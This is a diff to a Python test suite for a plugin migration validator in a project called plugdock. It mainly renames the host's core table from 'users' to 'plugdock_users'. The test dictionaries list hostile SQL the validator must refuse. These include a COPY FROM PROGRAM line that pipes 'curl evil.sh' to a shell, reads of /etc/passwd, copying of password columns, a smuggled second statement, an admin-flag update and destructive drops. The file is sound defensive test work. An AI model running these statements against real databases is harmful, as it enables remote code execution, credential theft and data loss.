@@ -201,16 +201,18 @@ def test_drop_created_tables_drops_newest_first(engine: Engine, tmp_path: Path) 
 
 
 def test_check_tables_free_refuses_existing_tables(engine: Engine, tmp_path: Path) -> None:
-    # ``users`` is one of the host's core tables (plugdock.core.db).
-    up = "CREATE TABLE IF NOT EXISTS users (id INTEGER PRIMARY KEY, evil TEXT);"
-    migration = load_migration(
-        write_migrations(tmp_path, {"up.sql": up, "down.sql": "DROP TABLE users;"}), "sqlite"
-    )
-    with engine.connect() as conn, pytest.raises(PackageError, match="'users' already exists"):
+    # ``plugdock_users`` is one of plugdock's core tables (plugdock.core.db).
+    up = "CREATE TABLE IF NOT EXISTS plugdock_users (id INTEGER PRIMARY KEY, evil TEXT);"
+    files = {"up.sql": up, "down.sql": "DROP TABLE plugdock_users;"}
+    migration = load_migration(write_migrations(tmp_path, files), "sqlite")
+    with (
+        engine.connect() as conn,
+        pytest.raises(PackageError, match="'plugdock_users' already exists"),
+    ):
         check_tables_free(conn, migration)
 
-    core = Migration("initial", (), (), ("plugin_migrations",), "x")
-    with engine.connect() as conn, pytest.raises(PackageError, match="plugin_migrations"):
+    core = Migration("initial", (), (), ("plugdock_plugin_migrations",), "x")
+    with engine.connect() as conn, pytest.raises(PackageError, match="plugdock_plugin_migrations"):
         check_tables_free(conn, core)
     with engine.connect() as conn:
         check_tables_free(conn, Migration("initial", (), (), ("brand_new",), "x"))
@@ -224,14 +226,14 @@ BASE_DOWN = "DROP TABLE chat;\n"
 # (file, SQL under test, a fragment of the statement the error must name).
 # "up" cases follow BASE_UP in up.sql; "down" cases precede BASE_DOWN in down.sql.
 FORBIDDEN = {
-    "drop-foreign-table": ("down", "DROP TABLE users;", "DROP TABLE users"),
-    "drop-in-up": ("up", "DROP TABLE users;", "DROP TABLE users"),
+    "drop-foreign-table": ("down", "DROP TABLE plugdock_users;", "DROP TABLE plugdock_users"),
+    "drop-in-up": ("up", "DROP TABLE plugdock_users;", "DROP TABLE plugdock_users"),
     "drop-cascade": ("down", "DROP TABLE chat CASCADE;", "CASCADE"),
     "attach": ("up", "ATTACH DATABASE '/tmp/evil.db' AS evil;", "ATTACH DATABASE"),
     "detach": ("down", "DETACH DATABASE main;", "DETACH"),
     "pragma": ("up", "PRAGMA foreign_keys = OFF;", "PRAGMA foreign_keys"),
     "grant": ("up", "GRANT ALL ON chat TO public;", "GRANT ALL"),
-    "revoke": ("up", "REVOKE ALL ON users FROM public;", "REVOKE ALL"),
+    "revoke": ("up", "REVOKE ALL ON plugdock_users FROM public;", "REVOKE ALL"),
     "copy-from-file": ("up", "COPY chat FROM '/etc/passwd';", "COPY chat"),
     "copy-program": ("up", "COPY chat FROM PROGRAM 'curl evil.sh | sh';", "PROGRAM"),
     "load-file": (
@@ -256,22 +258,26 @@ FORBIDDEN = {
     "drop-schema": ("down", "DROP SCHEMA public;", "DROP SCHEMA"),
     "trigger": (
         "up",
-        "CREATE TRIGGER tr AFTER INSERT ON chat BEGIN DELETE FROM users; END;",
+        "CREATE TRIGGER tr AFTER INSERT ON chat BEGIN DELETE FROM plugdock_users; END;",
         "CREATE TRIGGER",
     ),
     "view": ("up", "CREATE VIEW v AS SELECT * FROM chat;", "CREATE VIEW"),
     "function": ("up", "CREATE FUNCTION f() RETURNS INT AS 'SELECT 1';", "CREATE FUNCTION"),
     "procedure": ("up", "CREATE PROCEDURE p() BEGIN SELECT 1; END;", "CREATE PROCEDURE"),
     "set": ("up", "SET foreign_key_checks = 0;", "SET foreign_key_checks"),
-    "update-foreign": ("up", "UPDATE users SET is_admin = 1;", "UPDATE users"),
-    "delete-foreign": ("down", "DELETE FROM users;", "DELETE FROM users"),
+    "update-foreign": ("up", "UPDATE plugdock_users SET is_admin = 1;", "UPDATE plugdock_users"),
+    "delete-foreign": ("down", "DELETE FROM plugdock_users;", "DELETE FROM plugdock_users"),
     "delete-own-via-foreign": (
         "down",
-        "DELETE FROM chat WHERE id IN (SELECT id FROM users);",
-        "SELECT id FROM users",
+        "DELETE FROM chat WHERE id IN (SELECT id FROM plugdock_users);",
+        "SELECT id FROM plugdock_users",
     ),
-    "truncate-foreign": ("down", "TRUNCATE TABLE users;", "TRUNCATE"),
-    "ctas-foreign": ("up", "CREATE TABLE stolen AS SELECT * FROM users;", "AS SELECT * FROM users"),
+    "truncate-foreign": ("down", "TRUNCATE TABLE plugdock_users;", "TRUNCATE"),
+    "ctas-foreign": (
+        "up",
+        "CREATE TABLE stolen AS SELECT * FROM plugdock_users;",
+        "AS SELECT * FROM plugdock_users",
+    ),
     "like-foreign": ("up", "CREATE TABLE copy_t (x INT) LIKE users;", "LIKE users"),
     "begin": ("up", "BEGIN;", "BEGIN"),
     "commit": ("up", "COMMIT;", "COMMIT"),
@@ -281,8 +287,8 @@ FORBIDDEN = {
     "executable-comment": ("up", "CREATE TABLE t3 (x INT) /*! , y INT */;", "/*!"),
     "hidden-second-statement": (
         "up",
-        "INSERT INTO chat (body) VALUES ('a;b'); DROP TABLE users;",
-        "DROP TABLE users",
+        "INSERT INTO chat (body) VALUES ('a;b'); DROP TABLE plugdock_users;",
+        "DROP TABLE plugdock_users",
     ),
     "pg-read-file": (
         "up",
@@ -309,25 +315,33 @@ FORBIDDEN = {
     ),
     "insert-select-foreign": (
         "up",
-        "INSERT INTO chat (body) SELECT password FROM users;",
-        "FROM users",
+        "INSERT INTO chat (body) SELECT password FROM plugdock_users;",
+        "FROM plugdock_users",
     ),
     "subquery-foreign": (
         "up",
-        "INSERT INTO chat (body) VALUES ((SELECT password FROM users));",
+        "INSERT INTO chat (body) VALUES ((SELECT password FROM plugdock_users));",
         "SELECT password",
     ),
     "check-subquery-foreign": (
         "up",
-        "CREATE TABLE t5 (x INT CHECK (x < (SELECT COUNT(*) FROM users)));",
-        "FROM users",
+        "CREATE TABLE t5 (x INT CHECK (x < (SELECT COUNT(*) FROM plugdock_users)));",
+        "FROM plugdock_users",
     ),
     "weird-quoted-table": ("up", 'CREATE TABLE "we`ird; x" (x INT);', "we`ird"),
     "weird-quoted-column": ("up", 'CREATE TABLE t6 ("a""b" INT);', 'a""b'),
-    "index-on-foreign": ("up", "CREATE INDEX ix_users_email ON users (email);", "ON users"),
-    "alter-foreign": ("up", "ALTER TABLE users ADD COLUMN evil INT;", "ALTER TABLE users"),
+    "index-on-foreign": (
+        "up",
+        "CREATE INDEX ix_users_email ON plugdock_users (email);",
+        "ON plugdock_users",
+    ),
+    "alter-foreign": (
+        "up",
+        "ALTER TABLE plugdock_users ADD COLUMN evil INT;",
+        "ALTER TABLE plugdock_users",
+    ),
     "alter-rename": ("up", "ALTER TABLE chat RENAME TO users_archive;", "RENAME TO"),
-    "create-or-replace": ("up", "CREATE OR REPLACE TABLE users (x INT);", "OR REPLACE"),
+    "create-or-replace": ("up", "CREATE OR REPLACE TABLE plugdock_users (x INT);", "OR REPLACE"),
     "temp-table": ("up", "CREATE TEMP TABLE t7 (x INT);", "TEMP TABLE"),
     "virtual-table": ("up", "CREATE VIRTUAL TABLE t8 USING fts5(x);", "VIRTUAL TABLE"),
     "session-variable": ("up", "INSERT INTO chat (body) VALUES (@@datadir);", "@@datadir"),
@@ -364,7 +378,7 @@ FORBIDDEN_NATIVE = {
         "CREATE TABLE t9 (x INT) DATA DIRECTORY='/tmp';",
         "DATA DIRECTORY",
     ),
-    "mysql-rename-table": ("mysql", "RENAME TABLE users TO t9;", "RENAME TABLE"),
+    "mysql-rename-table": ("mysql", "RENAME TABLE plugdock_users TO t9;", "RENAME TABLE"),
     "mysql-load-data-local": (
         "mysql",
         "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE chat;",
@@ -413,7 +427,7 @@ def test_forbidden_native_sql_is_refused(case: tuple[str, str, str], tmp_path: P
 def test_refused_sql_never_reaches_the_database(engine: Engine, tmp_path: Path) -> None:
     with engine.begin() as conn:  # users: the host's core table
         conn.exec_driver_sql(
-            "INSERT INTO users (id, username, password_hash, role, created_at)"
+            "INSERT INTO plugdock_users (id, username, password_hash, role, created_at)"
             " VALUES (1, 'alice', 'x', 'user', '2026-01-01 00:00:00')"
         )
     before = table_names(engine)
@@ -423,7 +437,9 @@ def test_refused_sql_never_reaches_the_database(engine: Engine, tmp_path: Path) 
             load_migration(_migrations_for(tmp_path / str(number), file, sql), dialect)
     assert table_names(engine) == before
     with engine.connect() as conn:
-        assert conn.exec_driver_sql("SELECT id, username FROM users").all() == [(1, "alice")]
+        assert conn.exec_driver_sql("SELECT id, username FROM plugdock_users").all() == [
+            (1, "alice")
+        ]
 
 
 # ---------------------------------------------------------------- loading and portability
@@ -438,7 +454,7 @@ def test_common_author_habits_are_accepted(dialect: str, tmp_path: Path) -> None
             done BOOLEAN NOT NULL DEFAULT FALSE,
             price DECIMAL(10, 2),
             payload BLOB,
-            owner_id INTEGER REFERENCES users(id) ON DELETE SET NULL,
+            owner_id INTEGER REFERENCES plugdock_users(id) ON DELETE SET NULL,
             created TIMESTAMP DEFAULT CURRENT_TIMESTAMP
         ) ENGINE=InnoDB DEFAULT CHARSET=utf8mb4;
         CREATE TABLE Ticket_Notes (
